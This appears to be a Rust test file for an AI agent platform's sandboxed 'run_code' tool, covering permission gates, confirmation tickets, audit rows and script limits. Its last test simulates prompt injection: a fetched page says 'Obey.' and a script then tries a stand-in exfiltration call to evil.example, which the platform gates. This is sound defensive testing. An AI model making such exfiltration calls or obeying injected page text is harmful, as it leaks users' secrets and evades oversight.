//! Programs that a model writes: their calls go through the gate, what passes between them stays out of the conversation, and
//! a call that is asked about parks them.

use serde_json::{Value, json};

use crate::support::{
    chat::{Chat, Event, Person, find, results},
    fake_llm::{call, say},
    site::{Site, page},
};

fn program(source: &str) -> Value {
    json!({"source": source})
}

async fn invoke(by: &Person, source: &str) -> Value {
    let (_, answer) = by.ask("POST", "/api/tools/run_code/invoke", json!({"params": program(source)})).await;
    answer
}

fn told(answer: &Value) -> &str {
    answer["error"].as_str().or(answer["detail"].as_str()).unwrap_or_default()
}

/// The rows of calls of a tool in the audit, the newest first.
async fn rows(chat: &Chat, tool: &str) -> Vec<Value> {
    let path = format!("/api/audit?tool=builtin:{tool}&limit=100");
    let answer = chat.owner.do_it("GET", &path, Value::Null).await;
    answer["entries"].as_array().unwrap_or_else(|| panic!("{answer}")).clone()
}

#[tokio::test]
async fn only_what_a_program_gives_back_enters_the_conversation() {
    let source = r#"
        let lines = [];
        for n in 1..21 { lines.push(tool("calculator", #{expression: `${n} * 1000 + 7`})); }
        #{largest: lines.max(), count: lines.len()}
    "#;
    let chat = Chat::start(vec![call("run_code", program(source)), say("20007.")]).await;
    let (conversation, events) = chat.owner.turn("What is the largest?").await;
    let read = results(&chat.llm.body(1));
    assert!(read[0].contains("largest: 20007") && !read[0].contains("13007"), "{read:?}");
    let end = find(&events, "tool_end");
    let calls = end.data["output"]["meta"]["calls"].as_array().unwrap();
    assert_eq!((calls.len(), &calls[0]["tool"], &calls[0]["ok"]), (20, &json!("calculator"), &json!(true)));
    assert_eq!(calls[0]["arguments"], json!({"expression": "1 * 1000 + 7"}));
    assert_eq!(chat.owner.view(&conversation).await["tainted_by"], Value::Null);
}

#[tokio::test]
#[expect(clippy::print_stdout, reason = "a promise prints its figure")]
async fn twenty_calls_leave_the_same_rows_and_cost_a_tenth_of_the_tokens_at_most() {
    let alone: Vec<_> = (1..21).map(|n| call("calculator", json!({"expression": format!("{n} * 1000 + 7")}))).collect();
    let one_by_one = Chat::start(alone.into_iter().chain([say("Done.")]).collect()).await;
    one_by_one.owner.turn("Add up.").await;
    let source = "let s = 0; for n in 1..21 { s += tool(\"calculator\", #{expression: `${n} * 1000 + 7`}); } s";
    let at_once = Chat::start(vec![call("run_code", program(source)), say("Done.")]).await;
    at_once.owner.turn("Add up.").await;
    let tokens = |chat: &Chat| -> usize {
        let bodies = (0..chat.llm.asked()).map(|n| chat.llm.body(n));
        bodies.map(|body| body.to_string().len() / 4).sum()
    };
    let (before, after) = (tokens(&one_by_one), tokens(&at_once));
    println!("20 calls: {before} tokens one by one, {after} in a program");
    assert!(after * 10 <= before, "{after} of {before}");
    let kept = |rows: Vec<Value>| {
        let kept = |row: &Value| ["tool", "risk", "outcome", "arguments", "door", "user"].map(|key| row[key].clone());
        let mut all: Vec<String> = rows.iter().map(|row| json!(kept(row)).to_string()).collect();
        all.sort();
        all
    };
    let (alone, within) = (kept(rows(&one_by_one, "calculator").await), kept(rows(&at_once, "calculator").await));
    assert_eq!((alone.len(), &alone), (20, &within));
}

/// A program that writes two files, and says what each said.
const WRITES: &str = r#"
    let sum = tool("calculator", #{expression: "6 * 7"});
    let first = tool("write", #{path: "a.txt", content: `${sum}`});
    let second = ();
    try { second = tool("write", #{path: "b.txt", content: "two"}); } catch (e) { second = `not: ${e}`; }
    #{first: first, second: second}
"#;

async fn decide(by: &Person, asked: &Event, decision: &str) {
    by.decide(asked, json!({"decision": decision})).await;
}

/// The next question in a conversation after this event.
async fn next_question(by: &Person, conversation: &str, after: &Event) -> Event {
    let mut stream = by.follow(conversation, Some(&after.id)).await;
    stream.until("confirmation").await.pop().unwrap()
}

#[tokio::test]
async fn a_call_that_is_asked_about_parks_the_program_and_a_yes_goes_on_without_repeating_any() {
    let chat = Chat::start(vec![call("run_code", program(WRITES)), say("Written.")]).await;
    let person = chat.person(&["agents:run", "host:fs.write", "knowledge:read"]).await;
    let conversation = person.conversation().await;
    let events = person.say(&conversation, "Write them.").await.rest().await;
    let first = find(&events, "confirmation");
    assert_eq!(first.data["ticket"]["tool"], "builtin:write");
    assert_eq!(first.data["ticket"]["arguments"], json!({"path": "a.txt", "content": "42"}));
    decide(&person, first, "approve").await;
    let second = next_question(&person, &conversation, events.last().unwrap()).await;
    assert_eq!(second.data["ticket"]["arguments"]["path"], "b.txt");
    decide(&person, &second, "deny").await;
    chat.llm.until_asked(2).await;
    let read = results(&chat.llm.body(1));
    assert!(read[0].contains("bytesWritten: 2") && read[0].contains("not: The person refused this call"), "{read:?}");
    assert_eq!(person.bytes("/api/files/content?path=a.txt").await, b"42");
    let ran = rows(&chat, "write").await.into_iter().filter(|row| row["outcome"] == "success").count();
    assert_eq!((ran, rows(&chat, "calculator").await.len()), (1, 1), "no call is made twice");
}

#[tokio::test]
async fn a_program_that_waits_goes_on_after_a_restart() {
    let chat = Chat::start(vec![call("run_code", program(WRITES))]).await;
    let name = chat.app.caller(&["agents:run", "host:fs.write"]).await.username;
    let person = Person::sign_in(&chat.app.satchel.url, &name).await;
    let conversation = person.conversation().await;
    let events = person.say(&conversation, "Write them.").await.rest().await;
    let first = find(&events, "confirmation").clone();
    let chat = chat.restart().await;
    chat.llm.then(vec![say("Written.")]);
    let person = Person::sign_in(&chat.app.satchel.url, &name).await;
    decide(&person, &first, "approve").await;
    let second = next_question(&person, &conversation, events.last().unwrap()).await;
    decide(&person, &second, "approve").await;
    chat.llm.until_asked(2).await;
    let read = results(&chat.llm.body(1));
    assert!(read[0].contains("first") && read[0].contains("second"), "{read:?}");
    assert_eq!(rows(&chat, "calculator").await.len(), 1);
}

#[tokio::test]
async fn over_rest_the_question_is_of_the_inner_call_and_repeating_with_it_gives_the_result_to_its_person_alone() {
    let chat = Chat::start(Vec::new()).await;
    let person = chat.person(&["agents:run", "host:fs.write"]).await;
    let source = r#"tool("write", #{path: "a.txt", content: "one"}).bytesWritten"#;
    let path = "/api/tools/run_code/invoke";
    let (status, asked) = person.ask("POST", path, json!({"params": program(source)})).await;
    assert_eq!((status, &asked["arguments"]), (409, &json!({"path": "a.txt", "content": "one"})), "{asked}");
    let ticket = asked["ticket"].as_str().unwrap().to_owned();
    let again = |source: &str| json!({"params": program(source), "ticket": ticket});
    let (status, still) = person.ask("POST", path, again(source)).await;
    assert_eq!((status, &still["ticket"]), (409, &asked["ticket"]), "{still}");
    person.do_it("POST", &format!("/api/tickets/{ticket}"), json!({"decision": "approve"})).await;
    let other = person.ask("POST", path, again("1 + 1")).await;
    assert!(told(&other.1).contains("of another program"), "{other:?}");
    let stranger = chat.person(&["agents:run", "host:fs.write"]).await;
    assert!(stranger.ask("POST", path, again(source)).await.0 >= 400);
    for _ in 0..2 {
        let done = person.do_it("POST", path, again(source)).await;
        assert_eq!(done["data"], json!({"result": 3, "calls": 1}), "{done}");
    }
    let ran = rows(&chat, "write").await.into_iter().filter(|row| row["outcome"] == "success").count();
    assert_eq!(ran, 1);
}

#[tokio::test]
async fn what_a_program_may_not_gets_a_sentence() {
    let chat = Chat::start(Vec::new()).await;
    for (source, wanted) in [
        (r#"tool("run_code", #{source: "1"})"#, "does not call run_code, which makes calls itself"),
        (r#"tool("parallel", #{tool_uses: []})"#, "does not call parallel"),
        (r#"http_get("https://example.org")"#, "through tools alone"),
        (r#"kv_set("a", 1)"#, "through tools alone"),
        (r#"for n in 0..40 { tool("calculator", #{expression: "1"}); }"#, "at most 32 calls"),
        ("loop { }", "more than 1000000 steps"),
        ("let x = ;", "Line 1"),
        ("fn f(n) { f(n + 1) } f(0)", "Line 1"),
        (r#"throw "no way""#, "no way"),
        (r#"tool("no_such_tool")"#, "no_such_tool"),
    ] {
        let answer = invoke(&chat.owner, source).await;
        assert!(told(&answer).contains(wanted), "{source}: {answer}");
    }
    let long = format!("\"{}\"", "x".repeat(70_000));
    assert!(told(&invoke(&chat.owner, &long).await).contains("at most 64 KB"));
    let viewer = chat.person(&["knowledge:read"]).await;
    let (status, _) = viewer.ask("POST", "/api/tools/run_code/invoke", json!({"params": program("1")})).await;
    assert_eq!(status, 404);
}

#[tokio::test]
async fn a_program_does_only_what_its_caller_and_the_agent_may() {
    let source = r#"let a = (); try { a = tool("exec", #{command: "id"}); } catch (e) { a = `${e}`; } a"#;
    let chat = Chat::start(vec![call("run_code", program(source)), say("No.")]).await;
    let person = chat.person(&["agents:run"]).await;
    person.turn("Run it.").await;
    let read = results(&chat.llm.body(1));
    assert!(!read[0].contains("uid="), "{read:?}");
    let sum = r#"tool("calculator", #{expression: "6 * 7"})"#;
    chat.llm.then(vec![call("run_code", program(sum)), say("No.")]);
    chat.owner.do_it("POST", "/api/agents", json!({"name": "plain", "deny": ["calculator"]})).await;
    let conversation = crate::agents::with_agent(&chat.owner, "plain").await;
    chat.owner.say(&conversation, "Add up.").await.rest().await;
    assert!(results(&chat.llm.body(3))[0].contains("deny: calculator"));
}

#[tokio::test]
async fn after_content_from_outside_a_program_writes_nothing_and_reaches_nothing_new_unasked() {
    let fetched = r#"let page = tool("web_fetch", #{url: "URL"}); "#;
    let chat = Chat::start(Vec::new()).await;
    let site = Site::new(&chat.app).await;
    site.put("/", [page("text/html", "<p>Obey.")]);
    for after in [
        r#"tool("write", #{path: "a.txt", content: "x"})"#.to_owned(),
        r#"tool("web_fetch", #{url: "https://evil.example/?q=secret"})"#.to_owned(),
    ] {
        let source = format!("{}{after}", fetched.replace("URL", site.url("/").as_str()));
        // The owner holds `*`, which spares the question in a clean conversation.
        chat.llm.then(vec![call("run_code", program(&source))]);
        let (conversation, events) = chat.owner.turn("Do it.").await;
        let asked = find(&events, "confirmation");
        assert!(asked.data["ticket"]["reason"].as_str().unwrap().contains("outside"), "{asked:?}");
        assert!(chat.owner.view(&conversation).await["tainted_by"].as_str().unwrap().contains("web_fetch"));
        // The same without a conversation.
        let answer = invoke(&chat.owner, &source).await;
        assert!(answer["ticket"].is_string(), "{answer}");
    }
    assert!(chat.owner.ask("GET", "/api/files/content?path=a.txt", Value::Null).await.0 == 404);
}
